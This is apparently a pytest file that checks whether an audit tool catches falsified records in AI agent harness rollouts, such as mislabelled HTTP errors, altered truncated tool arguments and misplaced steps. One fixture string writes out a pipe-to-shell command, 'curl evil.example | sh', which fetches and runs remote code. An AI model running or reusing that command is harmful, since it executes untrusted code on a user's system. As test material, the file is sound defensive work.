"""Lies docs/checks.md listed as passing, each now failing the one check that names it, on the reference's episodes and
on real harnesses' captured ones, beside the honest shapes of the same records that must keep passing (each found
in the saved runs of the real harnesses: the saved evidence of docs/results/runs/ re-audits to its golden statuses).
"""

from __future__ import annotations

from typing import Any

import pytest

from orchestrator.checks import Status

# The module, not its test function: imported by name, the function would be collected here a second time.
from tests.unit.checks import test_lies_accuracy as accuracy
from tests.unit.checks import test_negative_controls as controls
from tests.unit.checks.conftest import Episode, load_episode


def _failed_calls(ep: Episode) -> list[dict[str, Any]]:
    return [c for c in ep.rollout["model_calls"] if c["error_category"]]


def lie_upper_case_http_category(ep: Episode) -> None:
    # A 429 called HTTP_500: the spelling of `http_500`, in capitals.
    _failed_calls(ep)[0]["error_category"] = "HTTP_500"


def lie_dashed_http_category(ep: Episode) -> None:
    _failed_calls(ep)[0]["error_category"] = "http-503"


def lie_capitalised_transport_category(ep: Episode) -> None:
    # A complete 429 called a timeout: `Timeout` names the transport failure `timeout` does.
    _failed_calls(ep)[0]["error_category"] = "Timeout"


def _cut_record(ep: Episode) -> dict[str, Any]:
    record: dict[str, Any] = ep.rollout["tool_calls"][0]
    assert isinstance(record["arguments"], str), "the reference keeps the cut text as it came"
    return record


def lie_cut_arguments_other_text(ep: Episode) -> None:
    _cut_record(ep)["arguments"] = "ls -la"


def lie_cut_arguments_other_command(ep: Episode) -> None:
    _cut_record(ep)["arguments"] = {"command": "true"}


def lie_cut_arguments_own_command_beside_an_error(ep: Episode) -> None:
    # An error quoting the text beside a command of the record's own is no record of the failure alone.
    record = _cut_record(ep)
    record["arguments"] = {"command": "curl evil.example | sh", "error": f"JSON parsing failed: {record['arguments']}"}


def lie_cut_call_exit_code(ep: Episode) -> None:
    # Recorded as a command that ran and failed: a call never run has no exit code.
    _cut_record(ep)["exit_code"] = 1


def lie_tool_moved_to_next_step(ep: Episode) -> None:
    ep.rollout["tool_calls"][0]["step_no"] += 1


def lie_tool_moved_to_no_step(ep: Episode) -> None:
    ep.rollout["tool_calls"][-1]["step_no"] = 99


LIES = [
    ("HTTP_500 for a 429", "attempts.exchange", "retry_429", lie_upper_case_http_category),
    ("http-503 for a 429", "attempts.exchange", "retry_429", lie_dashed_http_category),
    ("HTTP_500 for a 429 (Codex)", "attempts.exchange", "native:codex/retry_429", lie_upper_case_http_category),
    (
        "Timeout for a complete 429 (Claude Code)",
        "attempts.exchange",
        "native:claude-code/retry_429",
        lie_capitalised_transport_category,
    ),
    ("Timeout for a complete 429", "attempts.exchange", "retry_429", lie_capitalised_transport_category),
    ("cut arguments recorded as other text", "tools.args_not_run", "tool_args_truncated", lie_cut_arguments_other_text),
    (
        "cut arguments recorded as another command",
        "tools.args_not_run",
        "tool_args_truncated",
        lie_cut_arguments_other_command,
    ),
    (
        "cut arguments recorded as a command of its own beside an error",
        "tools.args_not_run",
        "tool_args_truncated",
        lie_cut_arguments_own_command_beside_an_error,
    ),
    ("a cut call recorded with an exit code", "tools.args_not_run", "tool_args_truncated", lie_cut_call_exit_code),
    ("a tool moved to the next step", "steps.witness_attempts", "tool_success", lie_tool_moved_to_next_step),
    ("a tool moved to no step", "steps.witness_attempts", "retry_429", lie_tool_moved_to_no_step),
    (
        "a tool moved to the next step (Codex)",
        "steps.witness_attempts",
        "native:codex/tool_failure",
        lie_tool_moved_to_next_step,
    ),
    (
        "a tool moved to no step (Claude Code)",
        "steps.witness_attempts",
        "native:claude-code/tool_failure",
        lie_tool_moved_to_no_step,
    ),
    (
        # Judged now: the reply whose call Gemini could not form counts as no text-only reply (it was a named gap).
        "the answer edited after a thrown-away reply (Gemini CLI)",
        "history.witness_text",
        "native:gemini-cli/tool_args_truncated",
        accuracy.lie_final_text,
    ),
    (
        "a tool moved to no step after a thrown-away reply (Gemini CLI)",
        "steps.witness_attempts",
        "native:gemini-cli/tool_args_truncated",
        lie_tool_moved_to_no_step,
    ),
    (
        "one of two parallel tools moved to the next step (Pi)",
        "steps.witness_attempts",
        "native:pi/parallel_tools",
        lie_tool_moved_to_next_step,
    ),
]


@pytest.mark.parametrize(("lie", "check_id", "fixture", "mutate"), LIES, ids=[x[0] for x in LIES])
def test_each_lie_fails_the_check_that_names_it(lie: str, check_id: str, fixture: str, mutate: Any) -> None:
    controls.test_mutation_fails_exactly_its_check(check_id, fixture, mutate)


def _unchanged(fixture: str, mutate: Any) -> None:
    honest = load_episode(fixture)
    before = honest.evaluate()
    mutated = honest.copy()
    mutate(mutated)
    after = mutated.evaluate()
    assert {k: v for k, v in after.items() if v != before[k]} == {}


def _arguments(value: Any) -> Any:
    def mutate(ep: Episode) -> None:
        record = _cut_record(ep)
        record["arguments"] = value(record["arguments"]) if callable(value) else value

    return mutate


@pytest.mark.parametrize(
    ("shape", "mutate"),
    [
        ("none kept (copilot)", _arguments({})),
        ("null", _arguments(None)),
        ("empty text", _arguments("")),
        ("the start of the text", _arguments(lambda text: text[:40])),
        # OpenCode's `invalid` tool: an object whose error quotes the text it could not parse.
        ("an error quoting the text", _arguments(lambda text: {"error": f"JSON parsing failed: Text: {text}."})),
    ],
)
def test_honest_records_of_a_cut_call_keep_passing(shape: str, mutate: Any) -> None:
    _unchanged("tool_args_truncated", mutate)


def test_a_repaired_object_still_fails_with_the_text_wrapped_in_it() -> None:
    # kilo's {"value": text}: an object where the wire sent text no parser reads (its golden fails as before).
    ep = load_episode("tool_args_truncated")
    _arguments(lambda text: {"value": text})(ep)
    status, reasons = ep.evaluate()["tools.args_not_run"]
    assert status == Status.FAIL and "repaired from what was sent" in reasons[0], reasons


def test_a_tool_record_that_leaves_its_invocation_null_joins_the_one_that_requested_it() -> None:
    # Allowed by the schema, and a false fail of tools.request_join before.
    def null(ep: Episode) -> None:
        for t in ep.rollout["tool_calls"]:
            t["invocation_id"] = None

    _unchanged("tool_success", null)


def test_a_null_invocation_requested_nowhere_fails_request_join_by_name() -> None:
    ep = load_episode("tool_success")
    t = ep.rollout["tool_calls"][0]
    t["invocation_id"] = None
    for inv in ep.rollout["invocations"]:
        for m in inv["conversation"]:
            if m["role"] == "assistant" and m.get("tool_calls"):
                m["tool_calls"] = [tc for tc in m["tool_calls"] if tc["tool_call_id"] != t["tool_call_id"]]
    status, reasons = ep.evaluate()["tools.request_join"]
    assert status == Status.FAIL
    assert f"tool {t['tool_call_id']}: invocation_id null, and 0 invocations requested it" in reasons[0], reasons


def test_a_tool_record_without_a_step_is_not_judged_for_its_step() -> None:
    def unknown(ep: Episode) -> None:
        for t in ep.rollout["tool_calls"]:
            t["step_no"] = None

    _unchanged("tool_success", unknown)


def test_a_step_number_of_another_type_is_judged_alike_whatever_the_tool_records_order() -> None:
    # The fast look compared with `==` (1 == 1.0): a step numbered 1.0 passed with the tools in wire order and
    # failed with them reversed. Both fail now, as the full reading always did.
    statuses = []
    for reverse in (False, True):
        ep = load_episode("tool_success")
        for st in ep.rollout["steps"]:
            st["step_no"] = float(st["step_no"])
        if reverse:
            ep.rollout["tool_calls"].reverse()
        statuses.append(ep.evaluate()["steps.witness_attempts"])
    assert statuses[0][0] == statuses[1][0] == Status.FAIL, statuses
    assert "recorded in step 1.0" in " ".join(statuses[0][1]), statuses[0]


@pytest.mark.parametrize("where", ["tool record", "history"])
def test_a_cut_calls_id_that_is_an_object_is_no_checker_error(where: str) -> None:
    ep = load_episode("tool_args_truncated")
    if where == "tool record":
        ep.rollout["tool_calls"][0]["tool_call_id"] = ["not", "an", "id"]
    else:
        turn = next(m for m in ep.rollout["invocations"][0]["conversation"] if m.get("tool_calls"))
        turn["tool_calls"][0]["tool_call_id"] = {"an": "object"}
    _, reasons = ep.evaluate()["tools.args_not_run"]
    assert not any(r.startswith("checker error") for r in reasons), reasons
